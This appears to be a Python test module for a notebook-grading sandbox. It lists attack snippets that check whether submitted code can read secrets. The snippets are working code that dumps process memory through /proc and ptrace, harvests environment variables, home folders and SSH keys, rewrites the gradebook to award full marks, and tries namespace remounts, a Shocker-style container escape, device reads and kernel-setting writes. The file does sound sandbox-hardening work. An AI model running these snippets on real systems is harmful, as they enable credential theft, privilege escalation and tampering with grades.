"""Attacks that read: files, processes, memory. All answers are right; none may learn a secret."""

from tests.grader.attacks.attack import family, spy

MEMORY = """
def scan(maps, memory):
    for line in open(maps):
        span, rights = line.split()[:2]
        low, high = (int(part, 16) for part in span.split("-"))
        if not rights.startswith("rw") or high - low > 200_000_000:
            continue
        try:
            memory.seek(low)
            tell(maps, memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            continue
"""

ATTACKS = family(
    "reading",
    spy(
        "search_all_files",
        "walks through the whole file system and searches every small file",
        """
for top in os.listdir("/"):
    if top in ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "dev"):
        continue
    for folder, names, files in os.walk("/" + top):
        names[:] = [n for n in names if n not in ("site-packages", "node_modules", ".git")]
        if folder.startswith(sys.prefix) or folder.startswith(sys.base_prefix):
            continue
        for name in files:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 3_000_000:
                tell_file(path)
""",
        seconds=15,
    ),
    spy(
        "open_the_source",
        "opens the source notebook, the gradebook and a neighbour's file where it knows them",
        """
for root in ["@COURSE@", *("/".join([".."] * n) for n in range(1, 6))]:
    for path in ["solutions/vault/vault.ipynb", "source/vault/vault.ipynb", "gradebook.db",
                 "submitted/model/vault/vault.ipynb", "autograded/model/vault/vault.ipynb"]:
        tell_file(f"{root}/{path}")
        print(os.path.exists(f"{root}/{path}"), end=" ")
""",
    ),
    spy(
        "write_the_gradebook",
        "gives itself points in the gradebook's database",
        """
import glob, sqlite3
for path in ["@COURSE@/gradebook.db", *glob.glob("../*/gradebook.db"), "../../../gradebook.db"]:
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=1) as book:
            tell(path, "".join(book.iterdump()))
            book.execute("update grade set manual_score = 100")
            print("paid myself in", path)
""",
    ),
    spy(
        "environment_and_home",
        "reads environment variables, the home folder, keys and histories",
        """
import glob, pathlib
tell("environ", repr(dict(os.environ)))
homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "@HOME@", "/root", *glob.glob("/home/*")}
for home in filter(None, homes):
    for folder, names, files in os.walk(home):
        names[:] = [n for n in names if n not in ("site-packages", "lib", ".venv")][:20]
        for name in files[:50]:
            path = os.path.join(folder, name)
            if os.path.isfile(path):
                tell_file(path)
""",
    ),
    spy(
        "temporary_folders",
        "reads what others left in /tmp, /var/tmp, /dev/shm and /run",
        """
for top in ["/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname("@TMPFILE@")]:
    for folder, names, files in os.walk(top):
        names[:] = names[:50]
        for name in files[:200]:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                tell_file(path)
tell_file("@TMPFILE@")
""",
    ),
    spy(
        "environ_of_all_processes",
        "reads the environment, the command line and the open files of every process",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        tell_file(f"/proc/{pid}/{name}")
    try:
        for link in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{link}"
            if os.path.isfile(path):
                tell_file(path)
    except OSError:
        pass
print(sum(map(str.isdigit, os.listdir("/proc"))), "processes")
""",
    ),
    spy(
        "roots_of_other_processes",
        "looks at the course through /proc/<pid>/root and /proc/<pid>/cwd",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for way in ("root", "cwd"):
        tell_file(f"/proc/{pid}/{way}@COURSE@/solutions/vault/vault.ipynb")
        tell_file(f"/proc/{pid}/{way}/solutions/vault/vault.ipynb")
        tell_file(f"/proc/{pid}/{way}@HOME@/.ssh/id_ed25519")
""",
    ),
    spy(
        "memory_of_the_parent",
        "reads the memory of every other process by /proc, process_vm_readv and ptrace",
        MEMORY
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))} - {os.getpid()}:
    try:
        scan(f"/proc/{pid}/maps", open(f"/proc/{pid}/mem", "rb", 0))
        print("read the memory of", pid)
    except OSError:
        pass
    if pid and libc.ptrace(16, pid, None, None) == 0:
        print("attached to", pid)
        libc.waitpid(pid, None, 0x40000000)  # until it has stopped: then it can be let go
        libc.ptrace(17, pid, None, None)
""",
        seconds=15,
    ),
    spy(
        "own_memory",
        "searches its own memory for what the process that forked it had read",
        MEMORY + "\nscan('/proc/self/maps', open('/proc/self/mem', 'rb', 0))",
        seconds=15,
    ),
    spy(
        "garbage_collector",
        "looks through every object that the garbage collector knows",
        """
import gc
def texts(thing):
    if isinstance(thing, (str, bytes)):
        yield thing
    elif isinstance(thing, dict):
        for key, value in list(thing.items()):
            yield from (v for v in (key, value) if isinstance(v, (str, bytes)))
    elif isinstance(thing, (list, tuple, set)):
        yield from (v for v in list(thing) if isinstance(v, (str, bytes)))
for thing in gc.get_objects():
    for text in texts(thing):
        tell("a " + type(thing).__name__, text)
""",
        seconds=15,
    ),
    spy(
        "inherited_descriptors",
        "reads from and writes to every descriptor it was born with",
        """
import socket, stat
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        target, mode = os.readlink(f"/proc/self/fd/{fd}"), os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISREG(mode):
        tell(target, os.pread(fd, 4_000_000, 0))
    if stat.S_ISDIR(mode):
        print("a folder is open:", target)
        for name in (os.listdir(fd) if os.access(fd, os.R_OK) else ()):
            tell("folder", name)
    if stat.S_ISSOCK(mode):
        twin = socket.socket(fileno=os.dup(fd))
        try:
            tell(target, twin.recv(1_000_000, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        except OSError:
            pass
        twin.close()
""",
    ),
    spy(
        "nested_namespaces",
        "becomes root in a user namespace of its own, uncovers mounts and remounts them writable",
        """
import subprocess
script = '''
id -u
mount -t proc proc /proc 2>/dev/null
for where in / /usr /tmp /root /home /etc /work; do
  umount -l $where 2>/dev/null
  mount -o remount,rw,bind $where 2>/dev/null && touch $where/poison-nested 2>/dev/null && echo wrote $where
done
grep -rls CAN''ARY- @COURSE@ @HOME@ /tmp /root /home 2>/dev/null | head
cat @COURSE@/solutions/vault/vault.ipynb 2>/dev/null
'''
done = subprocess.run(["unshare", "-Urmpf", "sh", "-c", script], capture_output=True, text=True, timeout=10)
tell("nested", done.stdout)
print(done.stdout.splitlines()[:1], done.stderr[:80])
""",
    ),
    spy(
        "become_root",
        "calls setuid, su, sudo and mount, which carry the set-user-id bit",
        """
import subprocess
for call in (os.setuid, os.setgid):
    try:
        call(0)
    except OSError:
        pass
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"],
                ["chroot", "/", "id"], ["nsenter", "-t", "1", "-m", "cat", "@HOME@/.ssh/id_ed25519"]):
    try:
        done = subprocess.run(command, capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
        tell(command[0], done.stdout)
    except (OSError, subprocess.TimeoutExpired):
        pass
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
for key in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs"):
    print(key, status[key].strip())
""",
    ),
    spy(
        "file_handles",
        "opens the host's root by a file handle, as the escape called Shocker does",
        """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
handle = struct.pack("<IiQ", 8, 1, 2)
for path in ("/", "/etc/hosts", "/usr", "."):
    try:
        mount = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    fd = libc.open_by_handle_at(mount, ctypes.create_string_buffer(handle), os.O_RDONLY)
    if fd >= 0:
        print("opened the root of", path, os.listdir(fd))
        for name in ("@COURSE@/solutions/vault/vault.ipynb", "@HOME@/.ssh/id_ed25519"):
            try:
                tell(name, os.read(os.open(name.lstrip("/"), os.O_RDONLY, dir_fd=fd), 4_000_000))
            except OSError:
                pass
""",
    ),
    spy(
        "devices",
        "reads disks, kernel memory and logs, and makes device nodes of its own",
        """
import glob, stat
for path in [*glob.glob("/dev/[svn][dv]*"), "/dev/mem", "/dev/kmsg", "/dev/kvm", "/proc/kcore", "/dev/fuse"]:
    try:
        with open(path, "rb", 0) as file:
            print("opened", path)
            tell(path, file.read(100_000) or b"")
    except OSError:
        pass
for major, minor in ((254, 0), (259, 0), (8, 0), (1, 1)):
    try:
        os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(major, minor))
        print("made a device")
        tell_file("disk")
    except OSError:
        pass
""",
    ),
    spy(
        "kernel_settings",
        "writes core_pattern, release_agent and the OOM score, to have the host run a program",
        """
import glob
for path in ["/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger",
             "/proc/sys/kernel/modprobe", *glob.glob("/sys/fs/cgroup/*/release_agent"),
             *glob.glob("/sys/fs/cgroup/*/cgroup.procs"), "/proc/1/oom_score_adj"]:
    try:
        with open(path, "w") as file:
            print("could write", path)  # opened only: the machine must survive plain nbgrader
    except OSError:
        pass
try:
    open("/proc/self/oom_score_adj", "w").write("-1000")
    print("cannot be killed for memory")
except OSError:
    pass
""",
    ),
    spy(
        "mount_table",
        "looks for names of the host's folders in mount tables and reads what is behind them",
        """
for line in open("/proc/self/mountinfo"):
    parts = line.split()
    for path in (parts[3], parts[4]):
        tell("mountinfo", path)
        for name in ("solutions/vault/vault.ipynb", "gradebook.db", ".ssh/id_ed25519", "id_ed25519"):
            tell_file(os.path.join(path, name))
print(len(open("/proc/self/mountinfo").read()), "bytes of mounts")
""",
    ),
    spy(
        "keyrings",
        "searches the kernel's keyrings, which no namespace separates",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
for ring in (-3, -4, -5):  # session, user, user session
    key = libc.syscall(250, 10, ring, b"user", b"vault-secret", 0)
    if key > 0:
        buffer = ctypes.create_string_buffer(1000)
        libc.syscall(250, 11, key, buffer, 1000)
        tell("keyring", buffer.raw)
tell_file("/proc/keys")
""",
    ),
    spy(
        "notebook_history",
        "reads the input history of the shell, of earlier runs and of the machine's user",
        """
shell = get_ipython()
tell("In", repr(shell.user_ns.get("In")))
manager = shell.history_manager
for session in ([manager] if manager is not None else []):
    for entry in list(session.get_tail(2000, raw=True)) + list(session.search("*")):
        tell("history", str(entry))
print(type(manager).__name__)
""",
    ),
)
